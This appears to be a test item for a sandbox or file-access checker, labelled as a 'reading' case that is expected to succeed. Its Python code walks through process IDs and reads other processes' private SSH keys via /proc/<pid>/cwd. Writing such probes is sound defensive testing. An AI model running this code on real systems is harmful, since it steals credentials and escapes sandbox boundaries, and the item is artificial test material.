"""Reach a home through the working folder of another process.

category: reading
ends: ok
"""

for pid in [host.pid, *range(1, 5000)]:
    try:
        print(open(f"/proc/{pid}/cwd/.ssh/id_ed25519").read())
    except OSError:
        pass
